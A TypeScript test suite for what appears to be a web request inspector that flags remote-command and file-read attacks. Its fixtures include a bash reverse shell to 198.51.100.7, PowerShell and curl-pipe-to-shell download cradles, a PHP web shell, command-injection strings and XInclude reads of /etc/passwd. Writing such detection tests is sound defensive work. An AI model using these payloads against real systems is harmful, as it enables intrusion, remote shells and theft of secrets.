import assert from 'node:assert/strict'
import { test } from 'node:test'
import { inspect } from '../src/inspect.ts'

function rulesOf(type: string, body: string): readonly string[] {
  const request = { method: 'POST', target: '/x', headers: ['content-type', type], body: Buffer.from(body) }
  return inspect(request)
    .matches.filter(match => match.score >= 5)
    .map(match => match.rule)
}

const ofJson = (value: unknown): readonly string[] => rulesOf('application/json', JSON.stringify(value))
const ofForm = (fields: Readonly<Record<string, string>>): readonly string[] =>
  rulesOf('application/x-www-form-urlencoded', new URLSearchParams(fields).toString())
const coded = (line: string): string => Buffer.from(line).toString('base64')

test('a command in base64 is refused where it is put in', () => {
  for (const line of ['/bin/sh -c id', 'wget http://evil.example/x', 'id']) {
    assert.ok(ofForm({ timestamp: `\`${coded(`${line}  `)}\`` }).includes('rce/coded-substitution'), line)
  }
  assert.deepEqual(ofForm({ timestamp: `\`${coded('salutations')}\`` }), [])
})

test('what a program that fetches is to get, behind its name in a list, is refused from nowhere', () => {
  for (const list of [
    ['wget', 'http://198.51.100.7/x'],
    ['/bin/busybox', 'wget', '-q', 'http://198.51.100.7/x'],
    ['curl', '-s', '198.51.100.7'],
  ])
    assert.ok(ofJson({ arguments: list }).includes('rce/fetched-item'), list.join(' '))
  for (const list of [
    ['curl', '-f', 'http://localhost:3000/health'],
    ['CMD', 'wget', '-q', '--spider', 'http://10.0.0.1/'],
    ['wget', 'https://files.example.com/x'],
    ['x', 'http://198.51.100.7/x'],
  ])
    assert.deepEqual(ofJson({ arguments: list, healthcheck: { test: list } }), [], list.join(' '))
})

test('the shell of Windows is asked who it is behind its option', () => {
  assert.ok(ofJson({ command: 'cmd', args: ['/c', 'whoami'] }).includes('rce/shell-look'))
  assert.deepEqual(ofJson({ command: 'cmd', args: ['/c', 'npm start'], columns: ['c', 'id'] }), [])
})

test('a look around between separators is refused in a password too', () => {
  for (const password of [';id;', '||whoami;#', '|id|'])
    assert.ok(ofForm({ password }).includes('rce/separated-look'), password)
  assert.deepEqual(ofForm({ password: ';idea;', new_password: 'a;id' }), [])
})

test('a program that somebody left is refused where it is run', () => {
  for (const value of ['127.0.0.1;/tmp/x.sh;', '`/var/tmp/a`', 'x|/opt/app/run.py', '$(/dev/shm/x)'])
    assert.ok(ofForm({ host: value }).includes('rce/left-program'), value)
  for (const value of ['/tmp/a.log;/tmp/b.log is', 'the file `/tmp/x.log` is there', '/srv/a;/srv/b'])
    assert.deepEqual(ofForm({ paths: value }), [], value)
})

test('a name of a thousand letters is refused in a query, a form and a part', () => {
  const name = 'A'.repeat(1_200)
  assert.ok(ofForm({ [name]: '1' }).includes('probe/overflow'))
  const part = `--b\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n1\r\n--b--\r\n`
  assert.ok(rulesOf('multipart/form-data; boundary=b', part).includes('probe/overflow'))
})

test('a file that does nothing but to start a shell is refused, whatever it is called', () => {
  const sent = (name: string, text: string): readonly string[] =>
    rulesOf(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n${text}\r\n--b--\r\n`,
    )
  for (const [name, text] of [
    ['x.sh', '#!/bin/sh\nbash -i >& /dev/tcp/198.51.100.7/1 0>&1'],
    ['x.ps1', 'IEX(New-Object Net.WebClient).DownloadString("http://198.51.100.7/")'],
    ['x.js', 'new java.lang.ProcessBuilder["(java.lang.String[])"](["touch","/tmp/x"]).start()'],
    ['a1b2', 'new java.lang.ProcessBuilder("/bin/sh", "-c", x).start()'],
    ['x.tpl', '{php}system("id");{/php}'],
    ['x.rb', 'system("id")'],
    ['x.sql', "SELECT 1;\r\\! bash -c 'touch /tmp/x'\r"],
    ['x.json', '{"snippets":[{"code":"<?php system($_GET[0]);"}]}'],
    ['x.yaml', 'args: ["curl 192.0.2.1|sh"]'],
  ] as const)
    assert.notDeepEqual(sent(name, text), [], name)
  for (const [name, text] of [
    ['build.sh', '#!/bin/sh\nset -e\nnpm ci\n'],
    ['Run.java', 'package a;\nclass Run { void f() { new ProcessBuilder("ls").start(); } }'],
    ['setup.ps1', '$x = New-Object Net.WebClient\n$x.DownloadFile("https://a.example/x", "x")'],
    ['task.rb', 'task :build do\n  system("make")\nend'],
    ['dump.sql', '\\connect shop\nCREATE TABLE a (b int);\n\\! echo done\n'],
    ['pipeline.yaml', 'args: ["curl https://get.example.com|sh"]'],
    ['page.tpl', '{if $user}{$user.name}{/if}'],
  ] as const)
    assert.deepEqual(sent(name, text), [], name)
})

test('a drawing that includes a file by steps behind a question mark is refused', () => {
  const drawing = (href: string): readonly string[] =>
    rulesOf(
      'multipart/form-data; boundary=b',
      `--b\r\nContent-Disposition: form-data; name="f"; filename="x.svg"\r\n\r\n<svg xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${href}" parse="text"/></svg>\r\n--b--\r\n`,
    )
  assert.notDeepEqual(drawing('.?../../../../../etc/passwd'), [])
  assert.notDeepEqual(drawing('../../../../proc/self/environ'), [])
})
